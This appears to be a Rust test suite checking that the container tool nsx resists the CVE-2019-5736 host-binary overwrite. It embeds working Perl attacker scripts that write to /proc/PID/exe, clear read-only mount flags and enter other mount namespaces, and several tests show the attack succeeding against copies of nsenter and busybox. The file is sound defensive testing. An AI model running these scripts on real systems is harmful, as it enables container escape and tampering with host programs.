//! A container that waits for whoever joins it to write to his program, which is the host's
//! (CVE-2019-5736).
//!
//! Every victim is a copy in a directory of the test's own, and the attacker touches nothing but
//! files that are that copy, or memory.

use crate::support::{
    Held, Need, as_nobody, binary, child_of, copy_program, find, finish, nsx, output, stderr,
    succeeds, test, until,
};
use libtest_mimic::Trial;
use std::fs::Permissions;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

const PERL: &[Need] = &[Need::Root, Need::Program("perl")];
const SETPRIV: &[Need] = &[Need::Root, Need::Program("perl"), Need::Program("setpriv")];
const MOUNT: &[Need] = &[Need::Root, Need::Program("perl"), Need::Program("mount")];
const BUSYBOX: &[Need] = &[Need::Root, Need::Program("perl"), Need::Program("busybox")];
const PRIVATE: &[Need] = &[
    Need::Root,
    Need::Program("perl"),
    Need::Program("busybox"),
    Need::Program("nsenter"),
    Need::Program("unshare"),
];
const NSENTER: &[Need] = &[Need::Root, Need::Program("perl"), Need::Program("nsenter")];
/// At least; as many as it takes for the attacker to have held the program [`HELD`] times.
const JOINS: usize = 150;
const HELD: usize = 20;

/// With all capabilities of the host's root, CAP_SYS_PTRACE among them.
const PRIVILEGED: &[&str] = &["-p", "-m"];
/// Root in a user namespace that has our number on the host.
const OWN_USERS: &[&str] = &["-U", "-p", "-m"];

pub fn tests() -> Vec<Trial> {
    vec![
        test("a privileged container cannot write to nsx while or after it joins", PERL, || {
            spared(PRIVILEGED, |_| vec!["true".into()]);
        }),
        test("a script that names its caller as interpreter cannot write to nsx", PERL, || {
            spared(PRIVILEGED, script);
        }),
        test("neither can one in a user namespace of its own", PERL, || {
            spared(OWN_USERS, script);
        }),
        test("a user's own nsx is out of reach of his container's root too", SETPRIV, of_user),
        test("a read-only mount of the host is not taken for a seal", MOUNT, remounted),
        test("the host's programs that --tools brings cannot be written to", BUSYBOX, tools),
        test("nsenter is overwritten: the attack is real", NSENTER, || {
            overwritten(PRIVILEGED, "B", |_| vec!["true".into()]);
        }),
        test("nsenter is overwritten by a script: the attack is real", NSENTER, || {
            overwritten(PRIVILEGED, "B", script);
            overwritten(OWN_USERS, "B", script);
        }),
        test("a read-only mount that its program holds is made writable", NSENTER, leaky),
        test("one in a namespace that can be joined is made writable", PRIVATE, private),
    ]
}

/// Knows the last pid of its namespace, waits for the next one, and takes its program. What it
/// tries, by letter: A open it for writing, B hold it and open that for writing when it has ended,
/// C clear the mount's read-only flag, D remount it, E clear that of a clone, F do so from within the
/// mount namespace that it is in, if that is another. It says `held` for
/// each process whose program it has, and what succeeded. Where a certain file appears it tries B
/// again on all that it has held, and removes that file.
const ATTACKER: &str = r#"
    use Fcntl;
    my ($victim, $mount, $open_tree, $mount_setattr, $setns, $again) = @ARGV;
    $| = 1;
    my $pid = fork // die;
    if ($pid) { sleep 1 while 1 }
    my (%seen, @kept, @all, $empty);
    $empty = "";
    sub is_victim {
        my ($fd) = @_;
        my ($device, $inode) = stat $fd or return;
        my $name = readlink("/proc/self/fd/" . fileno $fd) // "";
        return "$device:$inode" eq $victim || $name =~ m{^/memfd:};
    }
    sub write_to {
        my ($what, $path) = @_;
        # What was looked at may be another file by now.
        sysopen my $f, $path, O_WRONLY | O_APPEND or return;
        return unless is_victim($f);
        print "opened $what\n" unless (readlink("/proc/self/fd/" . fileno $f) // "") =~ m{^/memfd:};
        print "wrote $what\n" if syswrite $f, "overwritten\n";
    }
    sub clear {
        my ($fd) = @_;
        my $attr = pack "QQQQ", 0, 1, 0, 0;
        return syscall($mount_setattr + 0, $fd + 0, $empty, 0x1000, $attr, 32) == 0;
    }
    sub remount {
        my ($fd) = @_;
        my $path = "/proc/self/fd/" . fileno $fd;
        clear(fileno $fd) and print "did C\n";
        syscall($mount + 0, 0, $path, 0, 0x1020, 0) == 0 and print "did D\n";
        my $clone = syscall($open_tree + 0, fileno($fd) + 0, $empty, 0x1001);
        if ($clone >= 0) {
            print "did E\n" if clear($clone);
            write_to("E", "/proc/self/fd/$clone");
            POSIX::close($clone);
        }
    }
    # From within the mount namespace that its mount is in.
    sub go_there {
        my ($p, $fd) = @_;
        open my $mounts, "<", "/proc/$p/mountinfo" or return;
        my $name = readlink "/proc/$p/exe" or return;
        my @points = grep { index($name, $_) == 0 } map { (split " ")[4] } <$mounts>;
        open my $namespace, "<", "/proc/$p/ns/mnt" or return;
        my $child = fork // die;
        if ($child) { waitpid $child, 0; return }
        syscall($setns + 0, fileno($namespace), 0x20000) == 0 or exit;
        for my $point (@points) {
            my $attr = pack "QQQQ", 0, 1, 0, 0;
            syscall($mount_setattr + 0, -100, $point, 0, $attr, 32);
        }
        kill "KILL", $p;
        for (1 .. 100) {
            # There may be no /proc there.
            write_to("F", $_) for $name, "/proc/self/fd/" . fileno $fd;
            select undef, undef, undef, 0.001;
        }
        POSIX::_exit(0);
    }
    require POSIX;
    print "ready\n";
    while (1) {
        open my $load, "<", "/proc/loadavg" or die;
        my $last = (split " ", <$load>)[4];
        for my $p ($last, $last + 1) {
            next if $p <= $$ || $seen{$p};
            sysopen my $fd, "/proc/$p/exe", O_RDONLY or next;
            next unless is_victim($fd);
            $seen{$p} = 1;
            print "held\n";
            push @kept, [$p, $fd];
            push @all, $fd if @all < 200;
            write_to("A", "/proc/$p/exe");
            remount($fd);
            # Whatever else it has open.
            go_there($p, $fd) if (readlink("/proc/$p/ns/mnt") // "") ne readlink("/proc/self/ns/mnt");
            for my $path (glob "/proc/$p/fd/*") {
                sysopen my $other, $path, 010000000 or next;
                remount($other) if is_victim($other);
            }
        }
        for my $one (@kept) {
            my ($p, $fd) = @$one;
            if (readlink "/proc/$p/exe") {
                # One that runs itself over and over is ended.
                kill "KILL", $p if ++$seen{$p} > 2000;
                next;
            }
            remount($fd);
            write_to("B", "/proc/self/fd/" . fileno $fd);
            $one = undef if ++$$one[2] > 20;
        }
        @kept = grep { $_ } @kept;
        if (-e $again) {
            write_to("B", "/proc/self/fd/" . fileno $_) for @all;
            unlink $again;
        }
    }
"#;

/// A container that attacks the program `victim`.
struct Attack {
    /// Ends before its files.
    _container: Held,
    target: String,
    log: tempfile::NamedTempFile,
    files: tempfile::TempDir,
}

impl Attack {
    fn start(container: &[&str], victim: &Path) -> Self {
        let mut spawn = nsx(["spawn"]);
        spawn.args(container);
        Self::with(spawn, victim)
    }

    fn with(mut spawn: Command, victim: &Path) -> Self {
        let log = tempfile::NamedTempFile::new().unwrap();
        let files = tempfile::tempdir().unwrap();
        let file = std::fs::metadata(victim).unwrap();
        spawn.args(["perl", "-e", ATTACKER, &format!("{}:{}", file.dev(), file.ino())]);
        let calls =
            [libc::SYS_mount, libc::SYS_open_tree, libc::SYS_mount_setattr, libc::SYS_setns];
        spawn.args(calls.map(|call| call.to_string())).arg(files.path().join("again"));
        let container = spawn.stdin(Stdio::null()).stdout(log.reopen().unwrap()).spawn().unwrap();
        let container = Held(container);
        let target = || child_of(container.pid()).map(|pid| pid.to_string());
        until("the attacker is ready", || {
            std::fs::read_to_string(log.path()).unwrap().starts_with("ready\n")
        });
        let target = target().unwrap();
        Self { _container: container, target, log, files }
    }

    /// Everything that was held is tried once more.
    fn again(&self) {
        let file = self.files.path().join("again");
        std::fs::write(&file, "").unwrap();
        until("it is tried again", || !file.exists());
    }

    fn said(&self) -> String {
        std::fs::read_to_string(self.log.path()).unwrap()
    }

    fn held(&self) -> usize {
        self.said().lines().filter(|line| *line == "held").count()
    }

    /// What succeeded.
    fn done(&self) -> Vec<String> {
        let said = self.said();
        let done = said.lines().filter(|line| !["ready", "held"].contains(line));
        done.map(str::to_owned).collect()
    }
}

/// A program with a copy of its own, in a directory that everyone may enter.
fn copy_of(program: &Path) -> (tempfile::TempDir, PathBuf) {
    let directory = tempfile::tempdir().unwrap();
    let copy = directory.path().join(program.file_name().unwrap());
    copy_program(program, &copy);
    std::fs::set_permissions(directory.path(), Permissions::from_mode(0o755)).unwrap();
    (directory, copy)
}

/// The kernel runs the joiner itself, in the container, to read it.
fn script(directory: &Path) -> Vec<String> {
    let script = directory.join("script");
    crate::support::write_script(&script, "#!/proc/self/exe\n");
    vec![script.to_str().unwrap().to_owned()]
}

fn spared(container: &[&str], program: fn(&Path) -> Vec<String>) {
    let (directory, copy) = copy_of(&binary("nsx"));
    let attack = Attack::start(container, &copy);
    let program = program(directory.path());
    joined_in_vain(&attack, JOINS, || {
        let mut command = Command::new(&copy);
        command.args(["enter", "-t", &attack.target, "-a"]).args(&program);
        command
    });
    assert_same(&copy);
}

fn joined_in_vain(attack: &Attack, least: usize, join: impl Fn() -> Command) {
    let mut joins = 0;
    while joins < least || (attack.held() < HELD && joins < 10 * JOINS) {
        joins += 1;
        if let Some(joined) = joined(&mut join()) {
            assert!(joined.status.code() != Some(125), "{}", stderr(&joined));
        }
        assert_eq!(attack.done(), [] as [&str; 0], "after {joins}");
    }
    assert!(attack.held() >= HELD, "the attacker had it in hand {} times", attack.held());
}

/// `None` where the file was busy. An open for writing counts as a writer until the kernel finds
/// that the mount is read-only, and what has a writer is not run: the attacker cannot write, but by
/// trying he can keep the host from running its nsx now and then. That is not prevented.
fn joined(command: &mut Command) -> Option<Output> {
    command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let output = match command.spawn() {
        Err(error) if error.kind() == std::io::ErrorKind::ExecutableFileBusy => return None,
        started => finish(started.unwrap()),
    };
    let busy = output.status.code() == Some(125) && stderr(&output).contains("Text file busy");
    (!busy).then_some(output)
}

fn assert_same(copy: &Path) {
    let is_same = std::fs::read(copy).unwrap() == std::fs::read(binary("nsx")).unwrap();
    assert!(is_same, "the program has changed");
}

/// Without a right to mount the seal is another: a copy in memory.
fn of_user() {
    let (directory, copy) = copy_of(&binary("nsx"));
    std::os::unix::fs::chown(&copy, Some(65534), Some(65534)).unwrap();
    let mut spawn = as_nobody(&copy);
    spawn.args(["spawn"]).args(OWN_USERS);
    let attack = Attack::with(spawn, &copy);
    let program = script(directory.path());
    joined_in_vain(&attack, HELD, || {
        let mut command = as_nobody(&copy);
        command.args(["enter", "-t", &attack.target, "-a"]).args(&program);
        command
    });
    assert_same(&copy);
}

/// The program is the host's, and runs where the container sees it.
fn tools() {
    let (directory, copy) = copy_of(&find("busybox").unwrap());
    let before = std::fs::read(&copy).unwrap();
    let attack = Attack::start(PRIVILEGED, &copy);
    for _ in 0..HELD {
        let mut command = nsx(["enter", "-t", &attack.target, "-a"]);
        let mut tools = std::ffi::OsString::from("--tools=");
        tools.push(directory.path());
        output(command.arg(tools).args(["/busybox", "sleep", "0.2"]));
        assert_eq!(attack.done(), [] as [&str; 0]);
    }
    assert!(attack.held() >= HELD / 2, "the attacker had it in hand {} times", attack.held());
    assert!(std::fs::read(&copy).unwrap() == before, "the program has changed");
}

/// A mount at a path, which is unmounted with the test.
struct Mounted(PathBuf);

impl Mounted {
    fn remount(&self, how: &str) {
        let options = format!("remount,bind,{how}");
        succeeds(Command::new("mount").args(["-o", &options]).arg(&self.0));
    }
}

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

/// As `/usr` is on some hosts: read-only until the next upgrade.
fn remounted() {
    let (directory, copy) = copy_of(&binary("nsx"));
    succeeds(Command::new("mount").arg("--bind").args([directory.path(); 2]));
    let mount = Mounted(directory.path().to_owned());
    succeeds(Command::new("mount").arg("--make-private").arg(directory.path()));
    let attack = Attack::start(PRIVILEGED, &copy);
    mount.remount("ro");
    joined_in_vain(&attack, JOINS, || {
        let mut command = Command::new(&copy);
        command.args(["enter", "-t", &attack.target, "-a", "true"]);
        command
    });
    mount.remount("rw");
    attack.again();
    assert_eq!(attack.done(), [] as [&str; 0]);
    assert_same(&copy);
}

/// The same against a program that does not protect itself, until it has been done.
fn overwritten(container: &[&str], how: &str, program: fn(&Path) -> Vec<String>) {
    let (directory, copy) = copy_of(&find("nsenter").unwrap());
    let attack = Attack::start(container, &copy);
    let program = program(directory.path());
    attacked(&attack, how, || {
        let mut command = Command::new(&copy);
        let user: &[&str] = if container == OWN_USERS { &["-U"] } else { &[] };
        command.args(["-t", &attack.target, "-m", "-p"]).args(user).args(&program);
        command
    });
    let changed = std::fs::read(&copy).unwrap();
    assert!(changed.ends_with(b"overwritten\n"), "{:?}", attack.done());
}

fn attacked(attack: &Attack, how: &str, join: impl Fn() -> Command) {
    let wrote = format!("wrote {how}");
    let mut joins = 0;
    until("the attack succeeds", || {
        joins += 1;
        output(&mut join());
        attack.done().contains(&wrote)
    });
    println!("overwritten after {joins} joins");
}

/// The mount is read-only, and still the root of a namespace of its own, since its descriptor is
/// open: whoever has a descriptor on it may change its flags.
const LEAKY: &str = r#"
    my ($open_tree, $mount_setattr, $copy, @words) = @ARGV;
    my ($empty, $attr) = ("", pack "QQQQ", 1, 0, 0, 0);
    my $fd = syscall($open_tree + 0, -100, $copy, 1);
    die "open_tree: $!" if $fd < 0;
    syscall($mount_setattr + 0, $fd + 0, $empty, 0x1000, $attr, 32) == 0 or die "mount_setattr: $!";
    exec { "/proc/self/fd/$fd" } "nsenter", @words;
"#;

fn leaky() {
    let (_directory, copy) = copy_of(&find("nsenter").unwrap());
    let attack = Attack::start(PRIVILEGED, &copy);
    attacked(&attack, "B", || {
        let mut command = Command::new("perl");
        let calls = [libc::SYS_open_tree, libc::SYS_mount_setattr];
        command.args(["-e", LEAKY]).args(calls.map(|call| call.to_string())).arg(&copy);
        command.args(["-t", &attack.target, "-m", "-p", "true"]);
        command
    });
    assert!(attack.done().contains(&"did C".to_owned()), "{:?}", attack.done());
}

/// Read-only in a mount namespace of its own, and nothing more: what `tools` must not be.
fn private() {
    let (directory, copy) = copy_of(&find("busybox").unwrap());
    let attack = Attack::start(PRIVILEGED, &copy);
    let script = r#"mount --bind "$1" "$1"; mount -o remount,bind,ro "$1"
                    exec nsenter -t "$2" -p "$1/busybox" sleep 0.2"#;
    attacked(&attack, "F", || {
        let mut command = Command::new("unshare");
        command.args(["-m", "sh", "-c", script, "sh"]).arg(directory.path()).arg(&attack.target);
        command
    });
}
